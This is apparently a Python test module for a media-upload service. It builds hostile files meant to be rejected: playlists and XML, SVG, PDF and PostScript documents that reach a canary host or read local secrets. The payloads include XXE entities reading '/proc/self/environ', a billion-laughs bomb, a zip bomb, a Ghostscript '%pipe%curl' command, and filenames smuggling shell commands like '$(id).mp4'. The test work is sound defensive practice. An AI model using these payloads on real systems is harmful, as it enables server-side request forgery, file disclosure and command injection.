"""Files that name other files: playlists, scripts, drawings and documents, each as an upload of another name."""

import zlib
from collections.abc import Iterator, Mapping
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from urllib.parse import quote

from service.core.outcome import Reason
from tests.attacks.containers import box, changed

Attacks = Mapping[str, tuple[bytes, Reason | None]]  #: by key: a file, and its reason code; None: it is published


@dataclass(frozen=True, kw_only=True)
class Lures:
    """Where an upload would like to reach: a server that nobody may call, and a file that nobody may read."""

    canary: str  #: host and port
    file: Path

    @property
    def urls(self) -> Mapping[str, str]:
        """Addresses of both, by what is special about them."""
        return {
            "http": f"http://{self.canary}/a.ts",
            "rtsp": f"rtsp://{self.canary}/a",
            "tcp": f"tcp://{self.canary}",
            "redirect": f"http://{self.canary}/redirect?to={quote(self.file.as_uri())}",
            "file": self.file.as_uri(),
            "path": str(self.file),
            "neighbour": f"../../{self.file.name}",
            "environment": "file:///proc/self/environ",
            "parent": "file:///proc/1/environ",
            "concat": f"concat:{self.file}|{self.file}",
            "part": f"subfile,,start,0,end,0,,:{self.file}",
            "crypto": f"crypto+file:{self.file}",
            "self": "in",
        }


def playlist(url: str) -> bytes:
    """HLS (RFC 8216)."""
    return f"#EXTM3U\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{url}\n#EXT-X-ENDLIST\n".encode()


def lures(to: Lures) -> Attacks:
    """Every one is refused as a kind of file that is not taken, but for those that begin like one that is."""
    refused = {**_playlists(to), **_lists(to), **_descriptions(to), **_documents(to), **_keys(to)}
    return {key: (body, Reason.UNSUPPORTED_TYPE) for key, body in refused.items()} | dict(_disguised(to))


def _playlists(to: Lures) -> dict[str, bytes]:
    plain = playlist(to.urls["http"])
    key = f'#EXT-X-KEY:METHOD=AES-128,URI="{to.urls["file"]}"\n'.encode()
    init = f'#EXT-X-MAP:URI="{to.urls["http"]}"\n'.encode()
    master = f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1\n{to.urls['file']}\n".encode()
    return {
        **{f"hls/{kind}.mp4": playlist(url) for kind, url in to.urls.items()},
        "hls/key.mp4": plain.replace(b"#EXTINF", key + b"#EXTINF"),
        "hls/init.mov": plain.replace(b"#EXTINF", init + b"#EXTINF"),
        "hls/variants.m3u8": master,
        "hls/itself.mp4": playlist("itself.mp4"),
        "hls/marked.mkv": b"\xef\xbb\xbf" + plain,
        "hls/after lines.jpg": b"\r\n\r\n\t " + plain,
        "hls/in UTF-16.mp4": plain.decode().encode("utf-16"),
    }


def _lists(to: Lures) -> dict[str, bytes]:
    return {
        "ffconcat/absolute.mp4": f"ffconcat version 1.0\nfile '{to.file}'\n".encode(),
        "ffconcat/relative.mp4": b"ffconcat version 1.0\nfile ../../secret.ts\n",
        "ffconcat/itself.mp4": b"ffconcat version 1.0\nfile in\nfile in\n",
        "ffconcat/address.mp4": f"ffconcat version 1.0\nfile {to.urls['http']}\noption safe 0\n".encode(),
        "ffconcat/without head.mp4": f"file '{to.file}'\n".encode(),
        "pls.mp3": f"[playlist]\nFile1={to.urls['http']}\nNumberOfEntries=1\n".encode(),
        "m3u.mp3": f"{to.urls['http']}\n{to.file}\n".encode(),
        "asx.wma": f'<asx version="3.0"><entry><ref href="{to.urls["http"]}"/></entry></asx>'.encode(),
        "reference.asf": f"[Reference]\r\nRef1={to.urls['http']}?MSWMExt=.asf\r\n".encode(),
        "redirect.ram": f"{to.urls['rtsp']}\n".encode() * 40,
        "quicktime.mov": f"RTSPtext {to.urls['rtsp']}".encode(),
        "sequence.ffmeta": f";FFMETADATA1\ntitle={to.file}\n".encode(),
        "filters.txt": f"movie={to.file}[out0];subtitles={to.file}".encode(),
    }


def _descriptions(to: Lures) -> dict[str, bytes]:
    http, port = to.urls["http"], to.canary.rpartition(":")[2]
    entity = f'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "{to.urls["file"]}">]>'
    return {
        "dash.mp4": f'<?xml version="1.0"?><MPD><BaseURL>{http}</BaseURL><Period/></MPD>'.encode(),
        "dash entity.mpd": f"{entity}<MPD><BaseURL>&b;</BaseURL></MPD>".encode(),
        "imf.mxf": f"{entity}<CompositionPlaylist><Asset><Path>{http}</Path></Asset></CompositionPlaylist>".encode(),
        "smooth.ismc": f'<SmoothStreamingMedia><StreamIndex Url="{http}"/></SmoothStreamingMedia>'.encode(),
        "xspf.mp3": f"<playlist><trackList><track><location>{http}</location></track></trackList></playlist>".encode(),
        "sdp.mp4": f"v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 0".encode(),
        "lottie.json": f'{{"v": "5", "assets": [{{"p": "{http}"}}]}}'.encode(),
    }


def _documents(to: Lures) -> dict[str, bytes]:
    http, entity = to.urls["http"], f'<!DOCTYPE svg [<!ENTITY b SYSTEM "{to.urls["file"]}">]>'
    drawing = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{}</svg>'
    laughs = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    script = f"({to.file}) run (%pipe%curl {http}) (r) file"
    return {
        "drawing.svg": drawing.format(f'<image xlink:href="{http}"/><image xlink:href="{to.file}"/>').encode(),
        "drawing entity.svg": f'<?xml version="1.0"?>{entity}{drawing.format("<text>&b;</text>")}'.encode(),
        "drawing laughs.svg": f'<!DOCTYPE svg [<!ENTITY l0 "ha">{laughs}]>{drawing.format("&l9;")}'.encode(),
        "drawing.png": b"\n<!-- a remark -->" + drawing.format(f'<use href="{http}"/>').encode(),
        "page.jpg": f"<!DOCTYPE html><img src='{http}'><script src='{http}'></script>".encode(),
        "report.pdf": f"%PDF-1.7\n1 0 obj <</F ({to.file}) /URI ({http})>> endobj".encode(),
        "archive.zip": b"PK\x03\x04\x14\0\0\0\x08\0" + zlib.compress(bytes(9999)),
        "empty.zip": b"PK\x05\x06" + bytes(18),
        "script.ps": f"%!PS-Adobe-3.0\n{script}".encode(),
        "script.eps": f"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n{script}".encode(),
        "preview.eps": b"\xc5\xd0\xd3\xc6\x1e\0\0\0\x20\0\0\0" + bytes(18) + f"%!PS {script}".encode(),
        "placeable.wmf": b"\xd7\xcd\xc6\x9a" + bytes(36) + b"\x26\x06\x0f\0",
        "meta.emf": b"\x01\0\0\0\x6c\0\0\0" + bytes(32) + b" EMF" + bytes(60),
        "layers.psd": b"8BPS\0\1" + bytes(6) + b"\0\3\0\0\xff\xff\0\0\xff\xff\0\x08\0\3",
        "stars.fits": b"SIMPLE  =                    T".ljust(2880),
        "data.h5": b"\x89HDF\r\n\x1a\n" + bytes(99),
        "cursor.ico": b"\0\0\1\0\1\0\0\0\0\0\1\0\x20\0\x30\0\0\0\x16\0\0\0" + bytes(48),
        "plain.ppm": b"P6 99999 99999 255\n" + bytes(99),
        "c code.xbm": b"#define a_width 9\n#define a_height 9\nstatic char a_bits[] = {0};",
        "lines.xpm": b'/* XPM */\nstatic char *a[] = {"1 1 1 1", "a c red", "a"};',
        "commands.mvg": f"push graphic-context\nimage over 0,0 0,0 '{http}'\npop graphic-context".encode(),
        "commands.msl": f'<image><read filename="{to.file}"/><write filename="/tmp/out"/></image>'.encode(),
        "program.mp4": b"\x7fELF\2\1\1" + bytes(99),
        "script.mp4": f"#!/bin/sh\ncurl {http}\n".encode(),
        "words.srt": f"1\n00:00:00,000 --> 00:00:01,000\n<font face='{to.file}'>{{\\fn{to.file}}}\n".encode(),
        "words.ass": f"[Script Info]\n[Events]\nDialogue: 0,0:00:00.00,0:00:01.00,,,0,0,0,,{{\\fn{to.file}}}a".encode(),
        "words.vtt": b"WEBVTT\n\n00:00.000 --> 00:01.000\n<b>a\n",
    }


def _keys(to: Lures) -> dict[str, bytes]:
    """A name that would be an option, an address, a pattern or a command, and a content that would be a playlist."""
    names = [
        *("-i", "-version", "--help", "-f=lavfi", "@file", "|id", "`id`", "$(id).mp4", "; id #.mp4", "pipe:0"),
        *(f"file:{to.file}", f"concat:{to.file}|{to.file}", to.urls["http"], "data:text/plain,a", "lavfi:color"),
        *("frame %d.png", "%03d.jpg", "*.png", "[a-z]?.mp4", "line\nbreak.mp4", "tab\tkey.mp4", "'quote\".mp4"),
        *("../../secret.ts", "/etc/passwd", "C:\\in", "a,b=c:d[e]", '"><script>alert(1)</script>.mp4', "\x01\x1b[2J"),
    ]
    return dict.fromkeys(names, playlist(to.urls["file"]))


def _disguised(to: Lures) -> Iterator[tuple[str, tuple[bytes, Reason | None]]]:
    """A beginning of something that is taken, and then a playlist: the only demuxer that may open it is that one."""
    beginnings: dict[str, tuple[bytes, Reason]] = {
        "jpeg": (b"\xff\xd8\xff\xe0", Reason.DAMAGED),
        "png": (b"\x89PNG\r\n\x1a\n", Reason.DAMAGED),
        "gif": (b"GIF89a", Reason.TOO_MANY_PIXELS),
        "bmp": (b"BM", Reason.DAMAGED),
        "webp": (b"RIFF\0\1\0\0WEBP", Reason.DAMAGED),
        "matroska": (b"\x1aE\xdf\xa3", Reason.DAMAGED),
        "ogg": (b"OggS", Reason.DAMAGED),
        "flac": (b"fLaC", Reason.DAMAGED),
        "free box": (box(b"free"), Reason.DAMAGED),
        "ftyp": (box(b"ftyp", b"isom\0\0\0\0isom"), Reason.DAMAGED),
        "heic": (box(b"ftyp", b"heic\0\0\0\0mif1"), Reason.DAMAGED),
        "id3": (b"ID3\4\0\0\0\0\0\0", Reason.UNSUPPORTED_TYPE),
        "flv": (b"FLV\x01", Reason.DAMAGED),
        "asf": (b"0&\xb2u\x8ef\xcf\x11\xa6\xd9\0\xaa\0b\xcel", Reason.DAMAGED),
        "mpeg": (b"\0\0\x01\xba", Reason.DAMAGED),
        "ac3": (b"\x0bw", Reason.UNSUPPORTED_TYPE),
        "ts": ((b"G" + bytes(187)) * 8, Reason.DAMAGED),
        "au": (b".snd", Reason.DAMAGED),
    }
    for name, (head, reason) in beginnings.items():
        yield f"hls/after {name}", (head + playlist(to.urls["http"]) + playlist(to.urls["file"]), reason)


def elsewhere(film: bytes, to: Lures) -> Attacks:
    """An MP4 whose samples lie in another file, says its `dref` (ISO/IEC 14496-12, 8.7.2).

    They are looked for in this one, where they are: had anybody followed it, nothing there would decode.
    """
    named = {kind: box(b"url ", bytes(4), to.urls[kind].encode() + b"\0") for kind in ("http", "file")}
    named["alias"] = box(b"alis", bytes(4), _alias(to.file.name))
    return {
        f"data elsewhere, {kind}.mp4": (
            changed(film, b"dref", partial(_instead, b"\0\0\0\0\0\0\0\1" + entry)),
            None,
        )
        for kind, entry in named.items()
    }


def _instead(new: bytes, _old: bytes) -> bytes:
    return new


def _alias(name: str) -> bytes:
    """An alias record of a file two folders up (Inside Macintosh: Files, chapter 4)."""
    path = f"../../{name}".encode()
    head = bytes(10) + b"\x01a" + bytes(26) + b"\0" * 12 + bytes([len(name)]) + name.encode().ljust(63, b"\0")
    return head.ljust(150, b"\0") + b"\0\x12" + len(path).to_bytes(2, "big") + path + b"\xff\xff\0\0"
